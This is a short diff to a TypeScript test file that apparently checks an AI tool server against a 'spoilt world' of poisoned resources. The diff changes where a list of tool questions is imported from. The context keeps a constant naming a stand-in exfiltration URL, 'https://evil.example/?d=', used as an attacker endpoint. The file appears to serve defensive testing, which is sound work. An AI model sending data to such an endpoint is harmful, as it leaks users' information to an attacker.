@@ -1,8 +1,8 @@
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
-import { questions } from "#test/bench/round-trips/questions.ts";
 import { resourcesToRead } from "#test/bench/round-trips/resources-to-read.ts";
 import { extractHere, type OnAnswer } from "#test/support/person-asking.ts";
 import { selfLoading } from "#test/support/self-loading.ts";
+import { questions } from "#test/tools/tools.ts";
 import { type SpoiltWorld, startSpoiltWorld } from "./spoilt-world.ts";
 
 const evil = "https://evil.example/?d=";
@@ -27,7 +27,7 @@ beforeAll(async () => {
   world = await startSpoiltWorld(extractHere);
   const read = await resourcesToRead(world.client);
   asked = [
-    ...Object.entries(questions).flatMap(([tool, list]) => list.map((one) => [tool, one] as const)),
+    ...questions.flatMap(([tool, list]) => list.map((one) => [tool, one] as const)),
     ...read.map((one) => ["read_resource", one] as const),
   ];
 });
